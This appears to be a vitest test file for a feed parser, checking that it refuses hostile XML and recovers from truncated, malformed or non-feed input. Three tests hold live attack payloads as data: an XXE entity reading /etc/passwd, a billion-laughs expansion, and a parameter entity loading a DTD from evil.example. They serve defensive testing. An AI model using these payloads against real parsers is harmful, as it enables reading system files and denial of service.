import { describe, expect, it } from "vitest";
import { parseFeed } from "../../../src/ingest/feed/parse-feed.js";
import { loadFixture } from "./load-fixture.js";

const item = (n: number) => `<item><title>Story ${n}</title><link>https://t.example/${n}</link><pubDate>Tue, 26 Nov 2024 0${n}:00:00 GMT</pubDate><description><![CDATA[<p>Body ${n}</p>]]></description></item>`;
const fullFeed = `<?xml version="1.0"?><rss version="2.0"><channel><title>Cut Feed</title>${item(1)}${item(2)}${item(3)}</channel></rss>`;

describe("hostile and broken feeds", () => {
  it("refuses an external (XXE) entity without fetching it", () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&xxe;</title></channel></rss>`;
    const result = parseFeed(xml, {});
    expect(result).toEqual({ status: "refused", error: "feed declares XML entities (DOCTYPE); refused to expand them" });
  });

  it("refuses billion laughs quickly", () => {
    const lol = ["<!ENTITY lol0 \"lol\">"];
    for (let k = 1; k < 10; k++) lol.push(`<!ENTITY lol${k} "${`&lol${k - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?><!DOCTYPE rss [${lol.join("")}]><rss version="2.0"><channel><title>&lol9;</title></channel></rss>`;
    const started = performance.now();
    const result = parseFeed(xml, {});
    expect(result.status).toBe("refused");
    expect(performance.now() - started).toBeLessThan(50);
  });

  it("refuses a parameter entity hidden in a DOCTYPE with quotes and comments", () => {
    const xml = `<!-- x --><!DOCTYPE feed PUBLIC "a>b" "c" [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>`;
    expect(parseFeed(xml, {}).status).toBe("refused");
  });

  it("does not mistake an escaped DOCTYPE inside an item for the document's", () => {
    const xml = `<rss version="2.0"><channel><title>T</title><item><title>a</title><description><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>]]></description></item></channel></rss>`;
    expect(parseFeed(xml, {}).status).toBe("ok");
  });

  it("answers an HTML page with the feeds it advertises, made absolute", () => {
    const result = parseFeed(loadFixture("html-page-with-alternates.html"), { url: "https://gazette.example/news/index.html" });
    expect(result).toMatchObject({
      status: "not-a-feed",
      alternates: ["https://gazette.example/feed.xml", "https://gazette.example/atom.xml", "https://gazette.example/news/feeds/all.json"],
    });
  });

  it("answers an HTML fragment without alternates and other XML as not-a-feed", () => {
    expect(parseFeed("<head><title>Moved</title></head><body>gone</body>", {})).toMatchObject({ status: "not-a-feed", alternates: [] });
    expect(parseFeed("<catalog><book/></catalog>", {})).toMatchObject({ status: "not-a-feed", alternates: [] });
    expect(parseFeed("", {})).toMatchObject({ status: "not-a-feed" });
    expect(parseFeed(`{"hello": "world"}`, {})).toMatchObject({ status: "not-a-feed" });
  });

  it("keeps the complete items of a feed truncated between items", () => {
    const cut = fullFeed.slice(0, fullFeed.indexOf(item(3)) + 20);
    const result = parseFeed(cut, {});
    expect(result.status).toBe("partial");
    if (result.status !== "partial") return;
    expect(result.feed.title).toBe("Cut Feed");
    expect(result.feed.items.map((i) => i.title)).toEqual(["Story 1", "Story 2"]);
    expect(result.error).toMatch(/truncated/);
  });

  it("keeps a last item cut inside its CDATA body once its title is complete", () => {
    const cut = fullFeed.slice(0, fullFeed.indexOf("Body 3"));
    const result = parseFeed(cut, {});
    expect(result.status === "partial" && result.feed.items.map((i) => i.title)).toEqual(["Story 1", "Story 2", "Story 3"]);
  });

  it("drops a last item cut inside its title and a tag cut in half", () => {
    const cut = fullFeed.slice(0, fullFeed.indexOf("Story 3") + 3);
    expect(parseFeed(cut, {}).status === "partial" && (parseFeed(cut, {}) as { feed: { items: unknown[] } }).feed.items).toHaveLength(2);
    const halfTag = fullFeed.slice(0, fullFeed.indexOf("<link>https://t.example/2") + 3);
    const result = parseFeed(halfTag, {});
    expect(result.status === "partial" && result.feed.items.map((i) => i.title)).toEqual(["Story 1", "Story 2"]);
  });

  it("keeps the channel title of a feed cut before any item", () => {
    const result = parseFeed(`<rss version="2.0"><channel><title>Only header</title><description>d`, {});
    expect(result).toMatchObject({ status: "partial", feed: { title: "Only header", items: [] } });
  });

  it("does not lose an item to an entity XML does not define", () => {
    const xml = `<rss version="2.0"><channel><title>T</title><item><title>Caf&eacute;&nbsp;open &bogus; &amp; more</title><link>https://t.example/x</link></item></channel></rss>`;
    const result = parseFeed(xml, {});
    expect(result.status === "ok" && result.feed.items[0]!.title).toBe("Café open &bogus; & more");
  });

  it("reads a doubled XML declaration and undeclared rss: prefixes", () => {
    const xml = `<!-- generator bug -->\n<?xml?xml version="1.0" ??>\n<rss rss:version=2.0><rss:channel><rss:title>Prefixed</rss:title><rss:item><rss:title>One</rss:title><rss:link>https://p.example/1</rss:link></rss:item></rss:channel></rss>`;
    const result = parseFeed(xml, {});
    expect(result.status === "ok" && [result.feed.title, result.feed.items[0]?.link]).toEqual(["Prefixed", "https://p.example/1"]);
  });

  it("reads a feed with whitespace before the XML declaration", () => {
    expect(parseFeed(`\n\n  <?xml version="1.0"?>\n${fullFeed.slice(fullFeed.indexOf("<rss"))}`, {}).status).toBe("ok");
  });

  it("finishes quickly on a 5 MB body of nested junk", () => {
    const started = performance.now();
    const result = parseFeed(`<rss version="2.0"><channel><title>J</title>${"<item><title>".repeat(250_000)}`, {});
    expect(["partial", "ok"]).toContain(result.status);
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
